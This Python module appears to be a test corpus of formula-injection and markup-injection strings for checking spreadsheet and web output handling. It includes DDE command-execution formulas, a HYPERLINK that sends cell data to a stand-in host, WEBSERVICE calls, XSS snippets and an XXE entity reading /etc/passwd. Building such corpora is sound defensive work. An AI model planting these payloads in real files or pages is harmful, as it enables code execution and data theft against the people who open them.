"""Two hundred texts that somebody may have written to have a spreadsheet or a page act on them."""

from __future__ import annotations

_FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"clic")', 'WEBSERVICE("http://x.example")',
    'IMPORTXML("http://x.example","//a")', "SUM(A1:A9)", "@SUM(1+1)*cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "INDIRECT(\"A1\")", "2+5+cmd|' /C calc'!A0", "A1", "{1}", "-1", "+33 6 12 34 56 78", "REGISTER(\"x\")",
)  # fmt: skip
_MARKS = ("=", "+", "-", "@", "\t=", "\r=", "{=", " =", "'=", "＝", "=-", "=+")
_MARKUP = (
    "<script>alert(1)</script>", '<img src="file:///etc/passwd">', "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>', "http://x.example/", "https://x.example/?a=1&b=2", "mailto:a@x.example",
    "internal:Sheet1!A1", "external:c:\\x.xlsx", "file://host/share/x.png", "]]><x/>", "&lt;b&gt;", "&amp;", "&#0;",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "{{7*7}}", "${7*7}", "%s%s", "{0}", "_x0041_",
    "\x01\x02", "a\x0bb", "\ufffe", "\u202eabc", "\ud800", "x" * 40_000, "a\nb", "é" * 33_000, "🙂" * 20_000,
)  # fmt: skip
PAYLOADS: tuple[str, ...] = (*(mark + rest for mark in _MARKS for rest in _FORMULAS), *_MARKUP)
